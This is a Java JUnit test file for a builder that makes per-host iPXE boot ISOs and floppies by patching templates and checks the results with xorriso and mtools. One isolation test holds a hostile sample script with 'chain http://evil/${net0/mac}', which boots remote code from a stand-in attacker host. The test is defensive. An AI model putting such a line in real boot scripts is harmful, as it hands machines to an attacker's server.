package org.bootwarden.isoworker;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Per-host media patched from templates, checked against full builds of the same padded script
 * (byte for byte) and with xorriso and mtools. Skipped when the tools or iPXE binaries are missing
 * (see {@link IsoBuilderTest}).
 */
class PatchingIsoBuilderTest {

    private static final Path IPXE_DIR = Path.of(System.getProperty("bootwarden.ipxe.dir", "../.cache/ipxe"));
    private static final long EPOCH = 1_700_000_000L;

    @TempDir
    Path temp;

    private final AtomicInteger templatesBuilt = new AtomicInteger();

    private IsoToolsConfig tools(Path ipxeDir) {
        return IsoToolsConfig.debianDefaults(ipxeDir, temp.resolve("work"));
    }

    private IsoBuilder fullBuilder(Path ipxeDir) {
        IsoBuilder builder = new IsoBuilder(tools(ipxeDir), Duration.ofSeconds(60));
        List<String> problems = builder.checkTools();
        assumeTrue(problems.isEmpty() && IsoBuilder.onPath("mtype"), "ISO tools missing: " + problems);
        return builder;
    }

    private PatchingIsoBuilder patching(Path ipxeDir, int maxTemplates, PatchingIsoBuilder.Placeholders placeholders) {
        PatchingIsoBuilder.Placeholders counting = () -> {
            templatesBuilt.incrementAndGet();
            return placeholders.next();
        };
        return new PatchingIsoBuilder(tools(ipxeDir), fullBuilder(ipxeDir), () -> EPOCH, maxTemplates, counting);
    }

    private PatchingIsoBuilder patching() {
        return patching(IPXE_DIR, PatchingIsoBuilder.DEFAULT_MAX_TEMPLATES, PatchingIsoBuilder::randomPlaceholders);
    }

    static String script(int host) {
        return """
                #!ipxe
                ifopen net0
                set net0/ip 198.51.100.%d
                set net0/netmask 255.255.255.0
                set net0/gateway 198.51.100.1
                chain --timeout 5000 http://10.0.2.2:8080/boot/host-%d/token-%08x/script?mac=${net0/mac} || goto local
                :local
                sanboot --no-describe --drive 0x80
                """.formatted(host % 250 + 2, host, host * 2654435761L);
    }

    private static IsoSpec spec(String volumeId, String script, NicDriver driver, Architecture arch) {
        return new IsoSpec(volumeId, script, driver, arch);
    }

    // --- byte for byte equal to a full build ----------------------------------------------------

    @ParameterizedTest
    @CsvSource({
        "X86_64, FULL, BW_WEB01",
        "X86_64, SNPONLY, B",
        "X86_64, FULL, BW_A_HOSTNAME_OF_32_CHARACTERS_",
        "ARM64, FULL, BW_ARM_HOST_WITH_A_LONG_NAME",
    })
    void shouldPatchAnIsoIdenticalToAFullBuildOfThePaddedScript(Architecture arch, NicDriver driver, String volumeId)
            throws Exception {
        assumeTrue(Files.isRegularFile(IPXE_DIR.resolve(arch.efiBinary(driver))), "no " + arch.efiBinary(driver));
        PatchingIsoBuilder builder = patching();
        IsoSpec host = spec(volumeId, script(7), driver, arch);

        Path patched = temp.resolve("out/patched.iso");
        assertThat(builder.build(host, patched)).isEqualTo(PatchingIsoBuilder.Method.PATCHED);

        Path direct = temp.resolve("direct.iso");
        fullBuilder(IPXE_DIR).build(padded(host, 4096), direct, EPOCH);
        assertThat(patched).hasSameBinaryContentAs(direct);
        assertThat(listNames(patched.getParent())).containsExactly("patched.iso");
        assertThat(temp.resolve("work")).isEmptyDirectory();
    }

    @Test
    void shouldPatchAFloppyIdenticalToAFullBuildOfThePaddedScript() throws Exception {
        PatchingIsoBuilder builder = patching();
        for (String volumeId : List.of("BW_FLOPPY_HOST_01", "F")) {
            IsoSpec host = spec(volumeId, script(3), NicDriver.FULL, Architecture.X86_64);
            Path patched = temp.resolve(volumeId + ".img");
            assertThat(builder.buildFloppy(host, patched)).isEqualTo(PatchingIsoBuilder.Method.PATCHED);

            Path direct = temp.resolve(volumeId + "-direct.img");
            fullBuilder(IPXE_DIR).buildFloppy(padded(host, 4096), direct, EPOCH);
            assertThat(patched).hasSameBinaryContentAs(direct);
            assertThat(run("mtype", "-i", patched.toString(), "::/boot.ipxe")).isEqualTo(padded(host, 4096).script());
            assertThat(run("mlabel", "-s", "-i", patched.toString(), "::"))
                    .contains(IsoCommand.floppyLabel(volumeId));
        }
        assertThat(templatesBuilt).hasValue(1);
    }

    @Test
    void shouldRefuseAFloppyForSnponlyOrArm64LikeTheFullBuilder() {
        PatchingIsoBuilder builder = new PatchingIsoBuilder(tools(IPXE_DIR));

        assertThatThrownBy(() -> builder.buildFloppy(spec("A", script(1), NicDriver.SNPONLY, Architecture.X86_64),
                temp.resolve("f.img"))).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("SNPONLY");
        assertThatThrownBy(() -> builder.buildFloppy(spec("A", script(1), NicDriver.FULL, Architecture.ARM64),
                temp.resolve("f.img"))).isInstanceOf(IllegalArgumentException.class).hasMessageContaining("ARM64");
    }

    // --- structure, checked with the tools -------------------------------------------------------

    @Test
    void shouldCarryTheHostsScriptInTheIsoTreeAndInTheEfiFatImageWithBothElToritoEntries() throws Exception {
        PatchingIsoBuilder builder = patching();
        builder.build(spec("BW_OTHER", script(1), NicDriver.FULL, Architecture.X86_64), temp.resolve("other.iso"));
        IsoSpec host = spec("BW_WEB02", script(2), NicDriver.FULL, Architecture.X86_64);
        Path iso = temp.resolve("host.iso");

        builder.build(host, iso);

        String expected = padded(host, 4096).script();
        assertThat(expected).startsWith(host.script());
        assertThat(extractText(iso, "/boot.ipxe")).isEqualTo(expected);
        assertThat(extractText(iso, "/autoexec.ipxe")).isEqualTo(expected);
        Path efiboot = extract(iso, "/efiboot.img", temp.resolve("efiboot.img"));
        assertThat(run("mtype", "-i", efiboot.toString(), "::/EFI/BOOT/autoexec.ipxe")).isEqualTo(expected);
        assertThat(run("mdir", "-b", "-i", efiboot.toString(), "::/EFI/BOOT").lines().map(String::strip).toList())
                .containsExactlyInAnyOrder("::/EFI/BOOT/BOOTX64.EFI", "::/EFI/BOOT/autoexec.ipxe");
        String report = run("xorriso", "-indev", iso.toString(), "-report_el_torito", "plain");
        assertThat(report)
                .containsPattern("El Torito boot img\\s*:\\s*1\\s+BIOS")
                .containsPattern("El Torito boot img\\s*:\\s*2\\s+UEFI");
        assertThat(run("xorriso", "-indev", iso.toString(), "-pvd_info")).contains("Volume Id    : BW_WEB02");
        assertThat(run("xorriso", "-indev", iso.toString(), "-report_system_area", "plain")).contains("GPT");
        assertThat(templatesBuilt).hasValue(1);
    }

    @Test
    void shouldUseTheNextSizeClassForALargerScriptAndRebuildNothingForTheSmallOnes() throws Exception {
        PatchingIsoBuilder builder = patching();
        String large = script(1) + "#" + "x".repeat(5000) + "\n";
        IsoSpec host = spec("BW_LARGE", large, NicDriver.FULL, Architecture.X86_64);
        Path iso = temp.resolve("large.iso");

        assertThat(builder.build(host, iso)).isEqualTo(PatchingIsoBuilder.Method.PATCHED);
        assertThat(builder.build(spec("BW_SMALL", script(1), NicDriver.FULL, Architecture.X86_64), temp.resolve("s.iso")))
                .isEqualTo(PatchingIsoBuilder.Method.PATCHED);

        assertThat(extractText(iso, "/boot.ipxe")).hasSize(16384).isEqualTo(padded(host, 16384).script());
        Path direct = temp.resolve("direct.iso");
        fullBuilder(IPXE_DIR).build(padded(host, 16384), direct, EPOCH);
        assertThat(iso).hasSameBinaryContentAs(direct);
        assertThat(templatesBuilt).hasValue(2);
        assertThat(builder.cachedTemplates()).isEqualTo(2);
    }

    @Test
    void shouldBuildAnOversizedScriptInFullUnpadded() throws Exception {
        PatchingIsoBuilder builder = patching();
        // 64 KiB without a final newline: no room left for the padding's newlines
        String oversized = "#!ipxe\n" + "#".repeat(IsoSpec.MAX_SCRIPT_BYTES - 7);
        IsoSpec host = spec("BW_HUGE", oversized, NicDriver.FULL, Architecture.X86_64);
        Path iso = temp.resolve("huge.iso");

        assertThat(builder.build(host, iso)).isEqualTo(PatchingIsoBuilder.Method.FULL_BUILD);

        assertThat(extractText(iso, "/boot.ipxe")).isEqualTo(oversized);
        Path efiboot = extract(iso, "/efiboot.img", temp.resolve("efiboot.img"));
        assertThat(run("mtype", "-i", efiboot.toString(), "::/EFI/BOOT/autoexec.ipxe")).isEqualTo(oversized);
        assertThat(templatesBuilt).hasValue(0);
    }

    @Test
    void shouldLeaveOtherHostsUntouchedByAHostileScriptThatCarriesTheMarkerAndVolumeId() throws Exception {
        String[] placeholders = PatchingIsoBuilder.randomPlaceholders();
        PatchingIsoBuilder builder = patching(IPXE_DIR, 8, () -> placeholders.clone());
        // a script that repeats the template's own placeholders, a fake header, and NUL-free binary noise
        String hostile = "#!ipxe\n" + placeholders[0] + "\n#!ipxe\n" + placeholders[1] + "\n"
                + "echo \u00ff\u00fe\u0001\u001b[2J\n" + "chain http://evil/${net0/mac}\n";
        IsoSpec bad = spec("BW_HOSTILE", hostile, NicDriver.FULL, Architecture.X86_64);
        IsoSpec good = spec("BW_GOOD", script(5), NicDriver.FULL, Architecture.X86_64);

        assertThat(builder.build(bad, temp.resolve("bad.iso"))).isEqualTo(PatchingIsoBuilder.Method.PATCHED);
        assertThat(builder.build(good, temp.resolve("good.iso"))).isEqualTo(PatchingIsoBuilder.Method.PATCHED);

        assertThat(extractText(temp.resolve("bad.iso"), "/boot.ipxe")).isEqualTo(padded(bad, 4096).script());
        Path direct = temp.resolve("direct.iso");
        fullBuilder(IPXE_DIR).build(padded(good, 4096), direct, EPOCH);
        assertThat(temp.resolve("good.iso")).hasSameBinaryContentAs(direct);
        assertThat(templatesBuilt).hasValue(1);
    }

    @Test
    void shouldFallBackToFullBuildsWhenTheMarkerAlsoOccursInAnIpxeBinary() throws Exception {
        String[] placeholders = PatchingIsoBuilder.randomPlaceholders();
        Path ipxe = copyOfIpxeDir();
        append(ipxe.resolve("ipxe.efi"), ("#!ipxe\n" + placeholders[0] + "\n").getBytes(UTF_8));
        PatchingIsoBuilder builder = patching(ipxe, 8, () -> placeholders.clone());
        IsoSpec host = spec("BW_COLLIDE", script(9), NicDriver.FULL, Architecture.X86_64);
        Path iso = temp.resolve("collide.iso");

        assertThat(builder.build(host, iso)).isEqualTo(PatchingIsoBuilder.Method.FULL_BUILD);
        assertThat(builder.build(host, iso)).isEqualTo(PatchingIsoBuilder.Method.FULL_BUILD);

        assertThat(templatesBuilt).as("an unusable template is remembered, not rebuilt per host").hasValue(1);
        assertThat(extractText(iso, "/boot.ipxe")).isEqualTo(host.script());
    }

    @Test
    void shouldFallBackToFullBuildsWhenTheVolumeIdAlsoOccursInAnIpxeBinary() throws Exception {
        String[] placeholders = PatchingIsoBuilder.randomPlaceholders();
        Path ipxe = copyOfIpxeDir();
        append(ipxe.resolve("ipxe.lkrn"), placeholders[1].getBytes(UTF_8));
        PatchingIsoBuilder builder = patching(ipxe, 8, () -> placeholders.clone());

        assertThat(builder.buildFloppy(spec("BW_F", script(1), NicDriver.FULL, Architecture.X86_64),
                temp.resolve("f.img"))).isEqualTo(PatchingIsoBuilder.Method.FULL_BUILD);
        assertThat(builder.build(spec("BW_I", script(1), NicDriver.FULL, Architecture.X86_64),
                temp.resolve("i.iso"))).isEqualTo(PatchingIsoBuilder.Method.FULL_BUILD);
    }

    @Test
    void shouldRebuildTheTemplateWhenAnIpxeBinaryChanges() throws Exception {
        Path ipxe = copyOfIpxeDir();
        PatchingIsoBuilder builder = patching(ipxe, 8, PatchingIsoBuilder::randomPlaceholders);
        IsoSpec host = spec("BW_UPGRADE", script(4), NicDriver.FULL, Architecture.X86_64);
        Path iso = temp.resolve("host.iso");
        builder.build(host, iso);
        builder.build(host, iso);
        assertThat(templatesBuilt).hasValue(1);

        append(ipxe.resolve("ipxe.efi"), new byte[512]); // a "new version" of the EFI binary
        Files.setLastModifiedTime(ipxe.resolve("ipxe.efi"), FileTime.fromMillis(System.currentTimeMillis() + 5000));
        assertThat(builder.build(host, iso)).isEqualTo(PatchingIsoBuilder.Method.PATCHED);

        assertThat(templatesBuilt).hasValue(2);
        assertThat(builder.cachedTemplates()).isEqualTo(1);
        Path efiboot = extract(iso, "/efiboot.img", temp.resolve("efiboot.img"));
        Path efi = temp.resolve("BOOTX64.EFI");
        run("mcopy", "-i", efiboot.toString(), "::/EFI/BOOT/BOOTX64.EFI", efi.toString());
        assertThat(efi).hasSameBinaryContentAs(ipxe.resolve("ipxe.efi"));
    }

    @Test
    void shouldKeepAtMostMaxTemplates() {
        PatchingIsoBuilder builder = patching(IPXE_DIR, 1, PatchingIsoBuilder::randomPlaceholders);
        IsoSpec host = spec("BW_LRU", script(1), NicDriver.FULL, Architecture.X86_64);

        builder.build(host, temp.resolve("a.iso"));
        builder.buildFloppy(host, temp.resolve("a.img"));
        builder.build(host, temp.resolve("b.iso"));

        assertThat(builder.cachedTemplates()).isEqualTo(1);
        assertThat(templatesBuilt).hasValue(3);
    }

    @Test
    void shouldPatchConcurrentlyWithOneTemplateBuildAndNoCrossTalk() throws Exception {
        PatchingIsoBuilder builder = patching();
        int hosts = 48;
        ExecutorService pool = Executors.newFixedThreadPool(4);
        CountDownLatch start = new CountDownLatch(1);
        List<Future<PatchingIsoBuilder.Method>> results = new ArrayList<>();
        try {
            for (int i = 0; i < hosts; i++) {
                int host = i;
                results.add(pool.submit(() -> {
                    start.await();
                    return builder.build(spec("BW_HOST_" + host, script(host), NicDriver.FULL, Architecture.X86_64),
                            temp.resolve("out/host-" + host + ".iso"));
                }));
            }
            start.countDown();
            for (Future<PatchingIsoBuilder.Method> result : results) {
                assertThat(result.get(120, TimeUnit.SECONDS)).isEqualTo(PatchingIsoBuilder.Method.PATCHED);
            }
        } finally {
            pool.shutdownNow();
        }

        assertThat(templatesBuilt).hasValue(1);
        MediaTemplate template = builder.template(new PatchingIsoBuilder.TemplateKey(MediaTemplate.Medium.ISO,
                Architecture.X86_64, NicDriver.FULL, 4096)).orElseThrow();
        assertThat(template.scriptOffsets()).hasSize(3);
        for (int i = 0; i < hosts; i++) {
            byte[] image = Files.readAllBytes(temp.resolve("out/host-" + i + ".iso"));
            byte[] expected = padded(spec("BW_HOST_" + i, script(i), NicDriver.FULL, Architecture.X86_64), 4096)
                    .script().getBytes(UTF_8);
            assertThat(image).hasSize(template.length());
            for (int offset : template.scriptOffsets()) {
                assertThat(Arrays.copyOfRange(image, offset, offset + 4096)).as("host %d at %d", i, offset)
                        .isEqualTo(expected);
            }
            assertThat(new String(image, 32768 + 40, 32, UTF_8)).isEqualTo(String.format("%-32s", "BW_HOST_" + i));
        }
        assertThat(listNames(temp.resolve("out"))).hasSize(hosts).allMatch(n -> n.endsWith(".iso"));
        Path direct = temp.resolve("direct.iso");
        fullBuilder(IPXE_DIR).build(padded(spec("BW_HOST_17", script(17), NicDriver.FULL, Architecture.X86_64), 4096),
                direct, EPOCH);
        assertThat(temp.resolve("out/host-17.iso")).hasSameBinaryContentAs(direct);
    }

    @Test
    void shouldReportMissingToolsThroughTheFullBuild() throws IOException {
        Path empty = Files.createDirectory(temp.resolve("empty"));
        PatchingIsoBuilder builder = new PatchingIsoBuilder(tools(empty));

        assertThatThrownBy(() -> builder.build(spec("BW_X", script(1), NicDriver.FULL, Architecture.X86_64),
                temp.resolve("x.iso")))
                .isInstanceOf(IsoBuildException.class)
                .hasMessageContaining("Cannot build ISO")
                .hasMessageContaining("ipxe.lkrn not found");
        assertThat(temp.resolve("x.iso")).doesNotExist();
        assertThat(builder.cachedTemplates()).isZero();
    }

    // --- helpers ------------------------------------------------------------------------------------

    private static IsoSpec padded(IsoSpec spec, int size) {
        return new IsoSpec(spec.volumeId(), ScriptPadding.pad(spec.script(), size), spec.nicDriver(),
                spec.architecture());
    }

    private Path copyOfIpxeDir() throws IOException {
        fullBuilder(IPXE_DIR);
        Path copy = Files.createDirectory(temp.resolve("ipxe-copy"));
        try (Stream<Path> files = Files.list(IPXE_DIR)) {
            for (Path file : (Iterable<Path>) files::iterator) {
                Files.copy(file, copy.resolve(file.getFileName()));
            }
        }
        return copy;
    }

    private static void append(Path file, byte[] bytes) throws IOException {
        Files.write(file, bytes, StandardOpenOption.APPEND);
    }

    private static List<String> listNames(Path dir) throws IOException {
        try (Stream<Path> files = Files.list(dir)) {
            return files.map(p -> p.getFileName().toString()).toList();
        }
    }

    private String extractText(Path iso, String isoPath) throws Exception {
        Path target = temp.resolve("extracted-" + System.nanoTime());
        return Files.readString(extract(iso, isoPath, target));
    }

    private static Path extract(Path iso, String isoPath, Path target) throws Exception {
        Files.deleteIfExists(target);
        run("xorriso", "-osirrox", "on", "-indev", iso.toString(), "-extract", isoPath, target.toString());
        return target;
    }

    private static String run(String... argv) throws Exception {
        Process process = new ProcessBuilder(argv).redirectError(ProcessBuilder.Redirect.DISCARD).start();
        process.getOutputStream().close();
        String stdout = new String(process.getInputStream().readAllBytes(), UTF_8);
        assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
        assertThat(process.exitValue()).as("exit code of %s", List.of(argv)).isZero();
        return stdout;
    }
}
